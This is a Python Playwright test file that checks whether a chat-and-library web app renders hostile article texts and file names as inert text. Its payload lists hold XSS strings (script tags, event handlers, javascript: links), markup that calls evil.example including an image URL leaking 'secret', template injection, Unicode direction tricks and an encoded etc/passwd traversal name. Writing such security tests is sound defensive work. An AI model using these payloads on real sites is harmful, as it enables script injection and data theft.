"""Articles and file names that try to be more than text, in a real browser."""

import subprocess
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from index import Settings, build
from tests.e2e.conftest import ask, serving

Visit = Callable[..., Page]

PAYLOADS = (
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    '<svg onload="window.pwned=1"></svg>',
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<a href="javascript:window.pwned=1">click</a>',
    '<form action="http://evil.example/"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<style>@import url("http://evil.example/x.css");</style>',
    '<object data="http://evil.example/x.swf"></object>',
    '<video src="http://evil.example/x.mp4" autoplay></video>',
    '<body onload="window.pwned=1">',
    '<details open ontoggle="window.pwned=1">x</details>',
    '<input autofocus onfocus="window.pwned=1">',
    "</div></p></span><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "![pixel](http://evil.example/p.png?q=secret)",
    "[click](javascript:window.pwned=1)",
    "[ref]: http://evil.example/ 'title'",
    "<http://evil.example/auto>",
    "http://evil.example/bare www.evil.example",
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(x^2\\)",
    "```html\n<script>window.pwned=1</script>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.pwned=1>]\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | c |",
    "\u202egnp.exe\u202c and \u2066hidden\u2069 \u200b\ufeff",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "<template><img src=x onerror=window.pwned=1></template>",
    '<math><mtext><img src=x onerror="window.pwned=1"></mtext></math>',
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "<think>hidden</think> <thinking>window.pwned=1</thinking>",
    "[1] [2] [^1] [^2]: http://evil.example/",
)
NAMES = (
    "<img src=x onerror=window.pwned=1>.txt",
    "<script>window.pwned=1<'script>.txt",
    "'\"><svg onload=window.pwned=1>.txt",
    "![x](http:evil.example).txt",
    "[x](javascript:window.pwned=1).txt",
    "\u202etxt.exe.txt",
    "\u200bzero\ufeffwidth.txt",
    "new\nline.txt",
    "tab\tstop.txt",
    "$$x^2$$.txt",
    "**bold** _it_ `code`.txt",
    "&lt;b&gt;.txt",
    "%2e%2e%2fetc%2fpasswd.txt",
    "#fragment?query=1.txt",
    "${window.pwned=1}.txt",
)
TOWERS = (
    "adder badger camel dolphin eagle falcon gazelle heron ibis jackal koala lemur marten newt otter panther quail "
    "raven salmon tapir urchin viper walrus yak zebra amber basalt cobalt diamond emerald flint garnet helium iron "
    "jade krypton lead mercury nickel onyx platinum quartz ruby silver topaz uranium violet wolfram xenon zinc"
).split()


@pytest.fixture(scope="module")
def hostile(
    footnote: Callable[..., subprocess.Popen[str]], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """The chat on 50 articles: hostile texts and titles under plain names, and hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "articles"
    corpus.mkdir()
    for n, payload in enumerate(PAYLOADS):
        text = f"The {TOWERS[n]} {payload.splitlines()[0]}\n\nThe keeper of the {TOWERS[n]} tower is {payload} called Ada.\n"
        (corpus / f"{n:02}.txt").write_text(text, encoding="utf-8")
    for n, name in enumerate(NAMES, start=len(PAYLOADS)):
        text = f"The {TOWERS[n]}\n\nThe keeper of the {TOWERS[n]} tower is called Ada.\n"
        (corpus / name).write_text(text, encoding="utf-8")
    report = build(corpus, folder / "index", settings=Settings())
    assert (report.seen, report.indexed) == (50, 50)
    with serving(footnote, folder / "index") as address:
        yield address


def test_no_article_and_no_file_name_does_anything(hostile: str, visit: Visit) -> None:
    page = visit(hostile)
    for n in (0, 1, 5, 19, 24, 28, 35, 36, 40, 44):
        ask(page, f"Who is the keeper of the {TOWERS[n]} tower?")
    expect(page.locator("#conversation .bot-row")).to_have_count(10)
    inert(page)
    for n in range(50):
        page.get_by_role("button", name="Library").click()
        expect(page.locator("#library .articles li")).to_have_count(50)
        inert(page)
        page.locator("#library .articles button.name").nth(n).click()
        expect(page.locator("#sources .text")).to_contain_text("The keeper of the")
        inert(page)
    page.reload()
    expect(page.locator("#conversation .bot-row")).to_have_count(10)
    inert(page)


def inert(page: Page) -> None:
    """Nothing an article or a file name says became a script, an element or a link."""
    assert page.evaluate("window.pwned") is None
    shown = page.locator("#conversation .bot-row, #conversation .user-row, #sources, #library")
    expect(shown.locator("img, script, iframe, object, video, form:not(.word), style, .katex")).to_have_count(
        0
    )
    expect(page.locator("#conversation .bot-row a:not(.marker):not(.source):not(.act)")).to_have_count(0)


def test_what_is_shown_is_what_the_article_says(hostile: str, visit: Visit) -> None:
    page = visit(hostile)
    reply = ask(page, "Who is the keeper of the badger tower?")
    for shown in (reply.locator(".said"), reply.locator(".title").first):
        expect(shown).to_contain_text('<img src=x onerror="window.pwned=1">')
    reply = ask(page, "Who is the keeper of the krypton tower?")
    expect(reply.locator("code").first).to_have_text("<img src=x onerror=window.pwned=1>.txt")
